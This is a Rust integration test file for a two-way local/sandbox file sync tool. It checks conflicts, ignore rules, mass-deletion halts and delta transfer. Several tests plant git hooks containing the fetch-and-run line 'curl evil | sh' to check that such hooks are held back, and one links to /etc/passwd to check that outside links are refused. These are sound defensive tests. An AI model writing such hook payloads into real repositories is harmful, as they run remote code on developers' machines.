//! Both ends in one process, over a socket: changes on one side reach the other, and forbidden changes do not.

mod support;

use std::{
    fs,
    os::unix::fs::{PermissionsExt, symlink},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
};

use cobox_sync::{DigestCache, Halt, Hooks, Mode, Phase, Resolution, Side};
use support::SyncPair;

#[test]
fn both_sides_become_identical_and_stay_identical() {
    let pair = SyncPair::new();
    pair.write_local("a/one.txt", "1");
    pair.write_sandbox("b/two.txt", "2");
    fs::set_permissions(pair.local("a/one.txt"), fs::Permissions::from_mode(0o755)).unwrap();
    symlink("one.txt", pair.local("a/link")).unwrap();
    let sync = pair.start(Mode::TwoWaySafe);
    sync.flush();
    assert_eq!(pair.read_sandbox("a/one.txt"), "1");
    assert_eq!(fs::metadata(pair.sandbox("a/one.txt")).unwrap().permissions().mode() & 0o111, 0o111);
    assert_eq!(fs::read_link(pair.sandbox("a/link")).unwrap().to_str(), Some("one.txt"));
    assert_eq!(pair.read_local("b/two.txt"), "2");

    pair.write_local("a/one.txt", "one");
    fs::rename(pair.sandbox("b"), pair.sandbox("c")).unwrap();
    sync.flush();
    assert_eq!(pair.read_sandbox("a/one.txt"), "one");
    assert_eq!(pair.read_local("c/two.txt"), "2");
    assert!(!pair.local("b").exists());

    fs::remove_file(pair.local("a/link")).unwrap();
    fs::remove_file(pair.local("a/one.txt")).unwrap();
    fs::create_dir(pair.local("a/one.txt")).unwrap();
    pair.write_local("a/one.txt/deep", "now a folder");
    sync.flush();
    assert_eq!(pair.read_sandbox("a/one.txt/deep"), "now a folder");
    assert!(!pair.sandbox("a/link").exists());
    fs::remove_dir_all(pair.sandbox("a/one.txt")).unwrap();
    pair.write_sandbox("a/one.txt", "a file again");
    sync.flush();
    assert_eq!(pair.read_local("a/one.txt"), "a file again");
    pair.assert_same();
    drop(sync);
    pair.wait_until(|| !pair.local(cobox_sync::STAGING_DIRECTORY).exists() && !pair.sandbox(cobox_sync::STAGING_DIRECTORY).exists());
}

#[test]
fn changes_are_synced_without_a_request() {
    let pair = SyncPair::new();
    let sync = pair.start(Mode::TwoWaySafe);
    sync.flush();
    pair.write_local("x", "from here");
    pair.wait_until(|| fs::read_to_string(pair.sandbox("x")).is_ok_and(|t| t == "from here"));
    pair.write_sandbox("x", "from there");
    pair.wait_until(|| fs::read_to_string(pair.local("x")).is_ok_and(|t| t == "from there"));
    fs::create_dir_all(pair.sandbox("new/deep")).unwrap();
    pair.write_sandbox("new/deep/er", "e");
    pair.wait_until(|| pair.local("new/deep/er").exists());
    drop(sync);
}

#[test]
fn conflicts_overwrite_nothing_until_resolved() {
    let pair = SyncPair::new();
    for name in ["x", "y.txt", "z"] {
        pair.write_local(name, "base");
    }
    pair.start(Mode::TwoWaySafe).flush();
    for name in ["x", "y.txt", "z"] {
        pair.write_local(name, "mine");
        pair.write_sandbox(name, "theirs");
    }
    let sync = pair.start(Mode::TwoWaySafe);
    let status = sync.flush();
    assert_eq!(status.conflicts.iter().map(|c| c.path.to_string()).collect::<Vec<_>>(), ["x", "y.txt", "z"]);
    assert_eq!((pair.read_local("x"), pair.read_sandbox("x")), ("mine".into(), "theirs".into()));
    assert_eq!(sync.resolve(&["x"], Resolution::Keep(Side::Local)), Ok(1));
    assert_eq!(sync.resolve(&["y.txt"], Resolution::Both), Ok(1));
    assert!(sync.resolve(&["no"], Resolution::Keep(Side::Local)).unwrap_err().contains("no conflict"));
    sync.flush();
    assert_eq!(pair.read_sandbox("x"), "mine");
    assert_eq!((pair.read_local("y.txt"), pair.read_sandbox("y.here.txt")), ("theirs".into(), "mine".into()));
    assert_eq!(sync.resolve(&[], Resolution::Keep(Side::Sandbox)), Ok(1));
    assert!(sync.flush().conflicts.is_empty());
    assert_eq!(pair.read_local("z"), "theirs");
    pair.assert_same();
}

#[test]
fn adding_or_removing_an_ignore_rule_deletes_nothing() {
    let pair = SyncPair::new();
    pair.write_local("build/out", "1");
    pair.write_local("src/main", "2");
    let sync = pair.start(Mode::TwoWaySafe);
    sync.flush();
    assert_eq!(pair.read_sandbox("build/out"), "1");
    pair.write_local(".gitignore", "build/\n");
    sync.flush();
    pair.write_local("build/out", "not synced");
    pair.write_sandbox("build/other", "neither");
    fs::remove_file(pair.sandbox("build/out")).unwrap();
    sync.flush();
    assert_eq!(pair.read_local("build/out"), "not synced");
    assert!(!pair.local("build/other").exists() && !pair.sandbox("build/out").exists());
    pair.write_sandbox(".gitignore", "");
    sync.flush();
    sync.flush();
    assert_eq!((pair.read_sandbox("build/out"), pair.read_local("build/other")), ("not synced".into(), "neither".into()));
    pair.assert_same();
}

#[test]
fn emptying_most_of_the_folder_halts_until_confirmed() {
    let pair = SyncPair::new();
    for i in 0..40 {
        pair.write_local(&format!("f{i}"), "x");
    }
    let sync = pair.start(Mode::TwoWaySafe);
    sync.flush();
    sync.pause();
    for i in 0..30 {
        fs::remove_file(pair.sandbox(&format!("f{i}"))).unwrap();
    }
    sync.resume(false).unwrap();
    assert!(sync.try_flush().unwrap_err().contains("halted"));
    assert_eq!(
        sync.status().phase,
        Phase::Halted(Halt::MassDeletion { side: Side::Local, directory: None, files: 30, total: 40, already_deleted: 0 })
    );
    assert!(pair.local("f0").exists());
    assert!(sync.resume(false).is_err());
    sync.resume(true).unwrap();
    sync.flush();
    assert!(!pair.local("f0").exists() && pair.local("f39").exists());
    sync.pause();
    for i in 30..40 {
        fs::remove_file(pair.local(&format!("f{i}"))).unwrap();
    }
    sync.resume(false).unwrap();
    assert!(sync.try_flush().unwrap_err().contains("halted"));
    assert_eq!(sync.status().phase, Phase::Halted(Halt::FolderEmptied { side: Side::Local, files: 10, already_deleted: 0 }));
    assert!(pair.sandbox("f30").exists());
}

#[test]
fn risky_files_stay_in_the_sandbox() {
    let pair = SyncPair::new();
    pair.write_sandbox(".git/hooks/pre-commit", "curl evil | sh");
    pair.write_sandbox(".git/HEAD", "ref: refs/heads/main");
    pair.write_sandbox(".vscode/tasks.json", "{}");
    pair.write_sandbox("src/main", "fine");
    let sync = pair.start(Mode::TwoWaySafe);
    let status = sync.flush();
    assert!(status.held_back.iter().any(|p| p.to_string() == ".git/hooks/pre-commit"), "{:?}", status.held_back);
    assert!(!pair.local(".git/hooks").exists() && !pair.local(".vscode").exists());
    assert!(pair.local(".git/HEAD").exists() && pair.local("src/main").exists());
    pair.write_local(".envrc", "mine");
    sync.flush();
    assert_eq!(pair.read_sandbox(".envrc"), "mine", "nothing is held back in the other direction");
}

#[test]
fn unsyncable_files_are_reported_and_the_rest_is_synced() {
    let pair = SyncPair::new();
    symlink("/etc/passwd", pair.local("outside")).unwrap();
    symlink("../../x", pair.sandbox("up")).unwrap();
    rustix::fs::mknodat(rustix::fs::CWD, pair.local("pipe"), rustix::fs::FileType::Fifo, 0o600.into(), 0).unwrap();
    pair.write_local("Readme", "1");
    pair.write_local("README", "2");
    let sync = pair.start(Mode::TwoWaySafe);
    let status = sync.flush();
    let told: Vec<String> = status.local_problems.iter().map(|(path, problem)| format!("{path}: {}", problem.as_str())).collect();
    assert_eq!(told, ["Readme: name_clash", "outside: link_outside", "pipe: special_file"]);
    assert!(status.sandbox_problems.keys().any(|path| path.to_string() == "up"));
    assert_eq!(pair.read_sandbox("README"), "2");
    assert!(!pair.sandbox("outside").exists() && !pair.sandbox("pipe").exists());
}

#[test]
fn large_files_are_sent_as_deltas_and_arrive_whole() {
    let pair = SyncPair::new();
    let mut content: Vec<u8> = (0..3_000_000u32).flat_map(|i| i.wrapping_mul(2_654_435_761).to_be_bytes()).collect();
    fs::write(pair.local("big"), &content).unwrap();
    let sync = pair.start(Mode::TwoWaySafe);
    sync.flush();
    content.splice(5_000_000..5_000_003, *b"edited in the middle");
    fs::write(pair.sandbox("big"), &content).unwrap();
    let before = sync.received();
    sync.flush();
    assert!(fs::read(pair.local("big")).unwrap() == content);
    assert!(sync.received() - before < 600_000, "{}", sync.received() - before);
}

#[test]
fn one_way_modes_change_one_side_only() {
    let pair = SyncPair::new();
    pair.write_local("mine", "1");
    pair.write_sandbox("theirs", "2");
    let sync = pair.start(Mode::Push);
    sync.flush();
    assert!(pair.sandbox("mine").exists() && !pair.local("theirs").exists() && pair.sandbox("theirs").exists());
    drop(sync);
    let sync = pair.start(Mode::Pull);
    pair.write_local("mine", "changed");
    sync.flush();
    assert!(pair.local("theirs").exists());
    assert_eq!(pair.read_sandbox("mine"), "1");
    drop(sync);
    pair.start(Mode::Mirror).flush();
    assert_eq!(pair.read_sandbox("mine"), "changed");
    fs::remove_file(pair.local("theirs")).unwrap();
    pair.start(Mode::Mirror).flush();
    pair.assert_same();
}

#[test]
fn a_lost_connection_is_reestablished_without_losing_changes() {
    let pair = SyncPair::new();
    let sync = pair.start(Mode::TwoWaySafe);
    sync.flush();
    for round in 0..20 {
        pair.write_local("x", &format!("here {round}"));
        sync.disconnect();
        pair.wait_until(|| pair.sandbox("x").exists() && pair.read_sandbox("x") == format!("here {round}"));
    }
}

#[test]
fn a_directory_with_ignored_files_is_kept_when_the_other_side_deletes_it() {
    let pair = SyncPair::new();
    pair.write_local(".gitignore", "*.o\n");
    pair.write_local("lib/a.c", "1");
    let sync = pair.start(Mode::TwoWaySafe);
    sync.flush();
    pair.write_sandbox("lib/a.o", "built");
    fs::remove_dir_all(pair.local("lib")).unwrap();
    let status = sync.flush();
    assert!(pair.sandbox("lib/a.o").exists() && !pair.sandbox("lib/a.c").exists());
    assert!(status.sandbox_problems.keys().any(|p| p.to_string() == "lib"));
    assert!(!pair.local("lib").exists());
}

/// A sandbox whose disk may be full, and which keeps digests between connections.
#[derive(Default)]
struct Sandbox {
    is_full: AtomicBool,
    digest_cache: std::sync::Mutex<DigestCache>,
    recalled: AtomicUsize,
}

impl Hooks for Sandbox {
    fn is_full(&self) -> bool {
        self.is_full.load(Ordering::Relaxed)
    }

    fn load_digests(&self) -> DigestCache {
        let digest_cache = std::mem::take(&mut *self.digest_cache.lock().unwrap());
        self.recalled.store(digest_cache.len(), Ordering::Relaxed);
        digest_cache
    }

    fn save_digests(&self, digest_cache: DigestCache) {
        *self.digest_cache.lock().unwrap() = digest_cache;
    }
}

#[test]
fn a_full_disk_is_retried_until_space_is_free() {
    let pair = SyncPair::new();
    let sandbox = Arc::new(Sandbox::default());
    sandbox.is_full.store(true, Ordering::Relaxed);
    pair.write_local("x", "mine");
    let sync = pair.start_at(Mode::TwoWaySafe, sandbox.clone());
    pair.wait_until(|| matches!(sync.status().phase, Phase::Retrying(why) if why.contains("the disk is full")));
    assert!(!pair.sandbox("x").exists());
    pair.write_sandbox("y", "theirs");
    sandbox.is_full.store(false, Ordering::Relaxed);
    pair.wait_until(|| pair.sandbox("x").exists() && pair.local("y").exists());
    sync.flush();
    pair.assert_same();
}

/// A sandbox whose disk is full from the second file on.
#[derive(Default)]
struct FullMidway {
    files: AtomicUsize,
}

impl Hooks for FullMidway {
    fn is_full(&self) -> bool {
        self.files.fetch_add(1, Ordering::Relaxed) > 0
    }
}

#[test]
fn a_disk_that_fills_up_during_an_upload_is_reported_as_full() {
    let pair = SyncPair::new();
    pair.write_local("a", "fits");
    let noise: Vec<u8> = (0..6_000_000u32).flat_map(|i| i.wrapping_mul(2_654_435_761).to_be_bytes()).collect();
    fs::write(pair.local("b"), &noise).unwrap();
    let sync = pair.start_at(Mode::TwoWaySafe, Arc::new(FullMidway::default()));
    pair.wait_until(|| match sync.status().phase {
        Phase::Retrying(why) => {
            assert!(why.contains("the disk is full"), "{why}");
            sync.connection_count() > 2
        }
        _ => false,
    });
}

#[test]
fn many_links_with_long_targets_are_synced_in_both_directions() {
    let pair = SyncPair::new();
    let target = "a/".repeat(2000);
    for number in 0..100 {
        symlink(&target, pair.local(&format!("here{number}"))).unwrap();
        symlink(&target, pair.sandbox(&format!("there{number}"))).unwrap();
    }
    pair.start(Mode::TwoWaySafe).flush();
    pair.assert_same();
}

#[test]
fn a_resolution_that_the_mode_forbids_is_rejected() {
    let pair = SyncPair::new();
    pair.write_local("x", "base");
    pair.start(Mode::TwoWaySafe).flush();
    pair.write_local("x", "mine");
    pair.write_sandbox("x", "theirs");
    for (mode, winner) in [(Mode::Push, Side::Sandbox), (Mode::Pull, Side::Local)] {
        let sync = pair.start(mode);
        assert_eq!(sync.flush().conflicts.len(), 1);
        let refused = sync.resolve(&["x"], Resolution::Keep(winner)).unwrap_err();
        assert!(refused.contains("two-way-safe"), "{refused}");
    }
    let sync = pair.start(Mode::Push);
    sync.flush();
    assert_eq!(sync.resolve(&["x"], Resolution::Keep(Side::Local)), Ok(1));
    sync.flush();
    assert_eq!(pair.read_sandbox("x"), "mine");
}

#[test]
fn a_name_clash_is_reported_as_soon_as_it_appears() {
    let pair = SyncPair::new();
    pair.write_local("docs/readme", "1");
    let sync = pair.start(Mode::TwoWaySafe);
    sync.flush();
    let clashes = |sync: &support::RunningSync| sync.flush().local_problems.keys().map(ToString::to_string).collect::<Vec<_>>();
    pair.write_local("docs/README", "2");
    assert_eq!(clashes(&sync), ["docs/readme"]);
    fs::remove_file(pair.local("docs/README")).unwrap();
    assert_eq!(clashes(&sync), [""; 0]);
}

#[test]
fn known_digests_survive_a_lost_connection() {
    let pair = SyncPair::new();
    for number in 0..30 {
        pair.write_local(&format!("f{number}"), &number.to_string());
    }
    let sandbox = Arc::new(Sandbox::default());
    let sync = pair.start_at(Mode::TwoWaySafe, sandbox.clone());
    // Stamps of files placed a moment ago are only trusted after another scan.
    pair.wait_until(|| {
        sync.disconnect();
        while sync.try_flush().is_err() {}
        sandbox.recalled.load(Ordering::Relaxed) == 30
    });
    fs::write(pair.sandbox("f0"), "changed meanwhile").unwrap();
    sync.flush();
    assert_eq!(pair.read_local("f0"), "changed meanwhile");
    pair.assert_same();
}

#[test]
fn names_differing_in_case_across_sides_are_reported_and_kept() {
    let pair = SyncPair::new();
    pair.write_local("readme", "mine");
    pair.write_sandbox("README", "theirs");
    pair.start(Mode::TwoWaySafe).flush();
    let sync = pair.start(Mode::TwoWaySafe);
    let status = sync.flush();
    assert!(status.local_problems.keys().chain(status.sandbox_problems.keys()).any(|p| p.to_string() == "readme"));
    assert_eq!((pair.read_sandbox("readme"), pair.read_local("README")), ("mine".into(), "theirs".into()));
    pair.assert_same();
}

#[test]
fn hooks_in_the_configured_hooks_path_are_held_back() {
    let pair = SyncPair::new();
    let git =
        |args: &[&str]| assert!(std::process::Command::new("git").arg("-C").arg(pair.local("")).args(args).status().unwrap().success());
    git(&["init", "-q"]);
    let sync = pair.start(Mode::TwoWaySafe);
    sync.flush();
    pair.write_sandbox("scripts/hooks/one", "ordinary");
    sync.flush();
    assert_eq!(pair.read_local("scripts/hooks/one"), "ordinary");
    git(&["config", "core.hooksPath", "scripts/hooks"]);
    sync.flush();
    pair.write_sandbox("scripts/hooks/pre-commit", "curl evil | sh");
    pair.write_sandbox("Scripts/Hooks/pre-push", "curl evil | sh");
    let held_back: Vec<String> = sync.flush().held_back.iter().map(ToString::to_string).collect();
    assert!(
        held_back.contains(&"scripts/hooks/pre-commit".to_owned()) && held_back.contains(&"Scripts/Hooks/pre-push".to_owned()),
        "{held_back:?}"
    );
    assert!(!pair.local("scripts/hooks/pre-commit").exists() && !pair.local("Scripts/Hooks/pre-push").exists());
}

#[test]
fn targets_of_linked_hooks_are_held_back() {
    let pair = SyncPair::new();
    let git =
        |args: &[&str]| assert!(std::process::Command::new("git").arg("-C").arg(pair.local("")).args(args).status().unwrap().success());
    git(&["init", "-q"]);
    fs::create_dir_all(pair.local("ci/real")).unwrap();
    fs::create_dir_all(pair.local(".git/hooks")).unwrap();
    symlink("ci/real", pair.local("hooks")).unwrap();
    symlink("../../scripts/pre.sh", pair.local(".git/hooks/pre-commit")).unwrap();
    let sync = pair.start(Mode::TwoWaySafe);
    sync.flush();
    pair.write_sandbox("scripts/pre.sh", "curl evil | sh");
    sync.flush();
    assert!(!pair.local("scripts/pre.sh").exists());
    git(&["config", "core.hooksPath", "hooks"]);
    sync.flush();
    pair.write_sandbox("ci/real/pre-push", "curl evil | sh");
    // The directory above it is replaced by a link to another one.
    pair.write_sandbox("evil/real/pre-push", "curl evil | sh");
    sync.flush();
    assert!(!pair.local("ci/real/pre-push").exists() && pair.local("evil/real/pre-push").exists());
    fs::remove_dir_all(pair.sandbox("ci")).unwrap();
    symlink("evil", pair.sandbox("ci")).unwrap();
    sync.flush();
    assert!(fs::read_link(pair.local("ci")).is_err());
}
